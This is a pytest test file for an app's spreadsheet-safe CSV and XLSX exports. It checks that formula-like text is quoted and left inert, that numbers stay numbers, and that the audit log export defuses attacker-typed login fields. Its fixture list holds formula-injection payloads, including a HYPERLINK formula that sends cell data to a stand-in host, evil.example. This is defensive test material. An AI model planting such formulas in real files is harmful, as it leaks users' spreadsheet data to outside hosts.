"""Spreadsheet-safe exports (kernel/spreadsheets.py): text a spreadsheet would run as a formula comes out inert, in
CSV (quoted) and XLSX (string cells), numbers stay numbers, and an export imports back byte for byte."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook

from factoryos.catalog import services as catalog_services
from factoryos.catalog.models import Item
from factoryos.facilities import services as facility_services
from factoryos.imports import formats, services
from factoryos.kernel import spreadsheets
from factoryos.kernel.tenancy import org_scope
from tests.factories import CHROME_UA, login_client, make_org, make_user

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "@SUM(1+1)",
    "+1+2",
    "-2+3",
    "=1+1",
    "'=already quoted",
    "''@twice",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


@pytest.mark.parametrize(
    "text",
    [*EVIL, "\t=tab", "\r=cr", "plain", "'plain quote", "", "'", "''", "a=b", "-", "'-", "=", "O'Brien"],
)
def test_quoting_and_unquoting_are_exact_inverses(text):
    assert spreadsheets.unquote(spreadsheets.csv_text(text)) == text
    assert spreadsheets.unquote(spreadsheets.xlsx_text(text)) == text
    assert not spreadsheets.csv_text(text).startswith(FORMULA_STARTS)


def test_numbers_stay_numbers_and_only_text_is_quoted():
    out = io.StringIO()
    spreadsheets.csv_writer(out).writerow([-5, Decimal("-1.5"), -0.25, "-5", None, True, "=x"])
    assert out.getvalue() == "-5,-1.5,-0.25,'-5,,True,'=x\r\n"
    assert formats.write("csv", ["n"], [[Decimal("-1.500000")], [Decimal("-2")], ["-2"]]).splitlines() == [
        b"n",
        b"-1.5",
        b"-2",
        b"'-2",
    ]


@pytest.fixture
def org(db):
    org, owner = make_org("Formula Works")
    with org_scope(org):
        catalog_services.uom_create(actor=owner, code="ea", name="Each", kind="count")
        facility_services.site_create(actor=owner, code="MAIN", name="Main plant")
    org.owner = owner
    return org


def _items(evil: list[str]) -> list[list[str]]:
    rows = [["sku", "name", "description", "type", "unit", "lead_time_days", "material", "category"]]
    for n, text in enumerate(evil):
        rows.append([f"EVIL-{n}", text, text, "raw", "ea", "3", text, text])
    return rows


def _fresh_org(name: str):
    other, owner = make_org(name)
    with org_scope(other):
        catalog_services.uom_create(actor=owner, code="ea", name="Each", kind="count")
    other.owner = owner
    return other


def _import(org, content: bytes, fmt: str = "csv") -> int:
    """Import items (the whole file through the import's own path, as its job runs it): how many were created."""
    with org_scope(org):
        report = services.run_import(
            actor=org.owner, kind="items", filename=f"items.{fmt}", data=content, dry_run=False
        )
    assert report.errors == [], report.errors
    return report.created


def _xlsx_cells(content: bytes) -> list[list[tuple[object, str]]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_formulas_imported_come_back_inert_in_csv_and_xlsx(org):
    client = login_client(org.owner.user, org)
    assert _import(org, as_csv(_items(EVIL))) == len(EVIL)
    with org_scope(org):
        stored = sorted(Item.objects.values_list("name", flat=True))
    assert stored == sorted(spreadsheets.unquote(text) for text in EVIL)  # a file's own quotes read as an export's

    exported = client.get("/api/v1/exports/items?format=csv").content.decode("utf-8")
    for row in list(csv.reader(io.StringIO(exported)))[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    assert '\'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")' in exported and "'@SUM(1+1)" in exported
    assert ",3," in exported  # a number is written as it is

    cells = _xlsx_cells(client.get("/api/v1/exports/items?format=xlsx").content)
    assert all(kind == "s" for row in cells for _value, kind in row if _value is not None)  # no formula cell
    texts = {value for row in cells for value, _kind in row}
    assert {'=HYPERLINK("http://evil.example/?x="&A1,"x")', "@SUM(1+1)", "=already quoted", "''@twice"} <= texts


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imports_back_byte_for_byte(org, fmt):
    client = login_client(org.owner.user, org)
    assert _import(org, as_csv(_items(EVIL))) == len(EVIL)
    first = client.get(f"/api/v1/exports/items?format={fmt}").content

    again = _fresh_org(f"Round trip {fmt}")
    assert _import(again, first, fmt) == len(EVIL)
    second = login_client(again.owner.user, again).get(f"/api/v1/exports/items?format={fmt}").content
    if fmt == "csv":
        assert second == first
    else:  # a workbook records when it was made: its cells are the same, byte for byte
        assert _xlsx_cells(second) == _xlsx_cells(first)


def test_an_xlsx_export_holds_no_control_character_an_xlsx_file_cannot(org):
    content = formats.write("xlsx", ["name"], [["bell\x07"]])
    assert _xlsx_cells(content)[1] == [("bell\ufffd", "s")]


@pytest.mark.django_db
def test_the_audit_csv_keeps_a_failed_logins_attacker_chosen_text_inert():
    """A failed login's email and Referer are typed by whoever tries: in the trail's export they are inert."""
    user = make_user("=cmd@example.com")  # a valid address a spreadsheet would run
    org, owner = make_org("Audited", owner=user)
    visitor = Client(HTTP_USER_AGENT=CHROME_UA, HTTP_REFERER="=HYPERLINK(1)")
    assert visitor.post("/accounts/login/", {"login": user.email, "password": "wrong"}).status_code == 200

    client = login_client(user, org)
    response = client.get("/control/audit/export.csv?action=login_failed")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert rows, "the failed login is in the export"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell
    assert any("'=cmd@example.com" in cell for row in rows for cell in row.values())
